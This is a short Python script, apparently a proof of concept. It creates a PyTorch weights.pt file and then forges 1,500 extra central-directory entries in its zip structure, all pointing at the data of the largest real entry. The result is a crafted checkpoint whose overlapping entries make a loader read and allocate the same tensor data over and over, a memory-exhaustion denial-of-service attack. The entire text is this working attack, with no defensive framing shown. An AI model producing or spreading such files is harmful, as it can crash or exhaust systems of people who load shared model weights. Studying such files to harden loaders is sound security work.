import struct
import zipfile

import torch

torch.save({"classifier.1.weight": torch.zeros(10, 784), "classifier.1.bias": torch.zeros(10)}, "weights.pt")
with open("weights.pt", "rb") as file:
    whole = file.read()
with zipfile.ZipFile("weights.pt") as archive:
    start, count = archive.start_dir, len(archive.namelist())
    largest = max(archive.infolist(), key=lambda entry: entry.file_size)
directory = (
    whole[start : whole.rindex(b"PK\x06\x06")] if b"PK\x06\x06" in whole else whole[start : whole.rindex(b"PK\x05\x06")]
)
for number in range(1500):
    name = b"weights/data/%d" % (number + 10)
    sizes = struct.pack("<III", largest.CRC, largest.file_size, largest.file_size)
    head = b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 0, 0, 0) + sizes
    directory += head + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, largest.header_offset) + name
count += 1500
end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
with open("weights.pt", "wb") as file:
    file.write(whole[:start] + directory + end)
